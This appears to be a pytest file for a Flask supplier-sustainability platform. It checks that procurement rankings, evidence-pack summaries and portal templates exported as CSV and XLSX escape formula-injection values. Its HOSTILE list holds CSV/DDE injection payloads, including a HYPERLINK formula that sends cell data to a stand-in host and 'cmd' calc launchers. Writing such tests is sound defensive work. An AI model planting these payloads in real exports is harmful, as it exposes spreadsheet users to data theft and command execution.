"""Formula injection in every spreadsheet the platform writes: procurement's ranking (CSV and
XLSX) and its method (CSV), the assessment evidence pack's summary (CSVs and XLSX), and the
supplier portal's disclosure template (CSV and XLSX). Supplier names and a supplier's own draft
values start with `=`, `+`, `-`, `@`, a tab or a carriage return; every cell of every export must
come out as text that no spreadsheet runs (a leading apostrophe), numbers staying numbers."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from esgx_platform.accounts.models import Role
from esgx_platform.accounts.services import add_membership
from esgx_platform.intake.drafts import save_draft
from tests.platform.factories import make_user, sign_in
from tests.platform.intake.helpers import make_filer
from tests.platform.rollups.world import Scenario

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
Q3 = "2025-Q3"


def cells_of(name: str, data: bytes) -> Iterator[object]:
    """Every cell of a CSV or XLSX file; an XLSX formula cell fails at once."""
    if name.endswith(".csv"):
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            yield from row
        return
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (name, sheet.title, cell.coordinate, cell.value)
                yield cell.value


def assert_no_formulas(name: str, data: bytes) -> int:
    """No cell starts like a formula unless it is a plain number; returns how many cells
    carried a hostile value, escaped (so the export really had them)."""
    escaped = 0
    for value in cells_of(name, data):
        if not isinstance(value, str):
            continue
        assert not value.startswith(FORMULA_START) or NUMBER.fullmatch(value), (name, value)
        escaped += any(value == "'" + h.lstrip("\t\r") or value == "'" + h for h in HOSTILE)
        escaped += value.startswith("'") and value[1:2] in FORMULA_START
    return escaped


@pytest.fixture
def hostile_factory(app: Flask, session: Session) -> tuple[Scenario, FlaskClient]:
    """A factory whose suppliers are named like formulas, all filing 2025-Q3; a person of
    the factory with the analyst and procurement roles, signed in."""
    w = Scenario(session)
    w.periods("2025-Q1", "2025-Q2", Q3)
    for n, name in enumerate(HOSTILE):
        supplier = w.supplier(name, category=1 + n % 4)
        w.spend(supplier, Q3, "1000.00")
        w.file(supplier, Q3, f"{n + 1}.00")
    person = make_user(session, w.factory, Role.FACTORY_ANALYST)
    make_user(session, w.factory, Role.PROCUREMENT)
    add_membership(session, person, w.factory, Role.PROCUREMENT)
    session.commit()
    client = app.test_client()
    sign_in(client, person)
    return w, client


def test_procurement_exports_escape_formulas(hostile_factory: tuple[Scenario, FlaskClient]) -> None:
    w, client = hostile_factory
    base = f"/factories/{w.factory.id}/ranking"
    for name in ("export.csv", "export.xlsx", "method.csv"):
        answer = client.get(f"{base}/{name}?period={Q3}")
        assert answer.status_code == 200, (name, answer.status_code)
        found = assert_no_formulas(name, answer.data)
        if name.startswith("export"):
            assert found >= len(HOSTILE), (name, found)


def test_the_evidence_pack_escapes_formulas(hostile_factory: tuple[Scenario, FlaskClient]) -> None:
    w, client = hostile_factory
    with client.session_transaction() as sess:
        csrf = {"X-CSRF-Token": str(sess["csrf"])}
    base = f"/api/v1/factories/{w.factory.id}/assessments"
    run = client.post(base, json={"year": 2025}, headers=csrf)
    assert run.status_code == 201, run.get_json()
    pack = client.get(f"{base}/{run.get_json()['id']}/evidence.zip")
    assert pack.status_code == 200
    spreadsheets = 0
    with zipfile.ZipFile(io.BytesIO(pack.data)) as archive:
        for name in archive.namelist():
            if name.endswith((".csv", ".xlsx")):
                spreadsheets += 1
                assert_no_formulas(name, archive.read(name))
        summary = archive.read("summary/summary.xlsx")
    assert spreadsheets >= 4
    assert assert_no_formulas("summary.xlsx", summary) >= len(HOSTILE)


def test_the_portal_template_escapes_a_suppliers_own_values(
    client: FlaskClient, session: Session
) -> None:
    filer = make_filer(session, client)
    values = {
        "verification.provider": HOSTILE[0],
        "verification.standard": HOSTILE[1],
        "initiatives[0].description": HOSTILE[3],
        "initiatives[1].description": HOSTILE[4],
        "initiatives[2].description": HOSTILE[5],
        "offsets[0].serials": HOSTILE[2],
        "scope1.tco2e": "-5",  # a number: stays as it is
    }
    save_draft(session, filer.supplier, Q3, values, user_id=filer.admin.id)
    session.commit()
    base = f"/portal/orgs/{filer.supplier.id}/form"
    for kind in ("csv", "xlsx"):
        answer = client.get(f"{base}/template.{kind}?period={Q3}")
        assert answer.status_code == 200
        assert assert_no_formulas(f"template.{kind}", answer.data) >= 5, kind
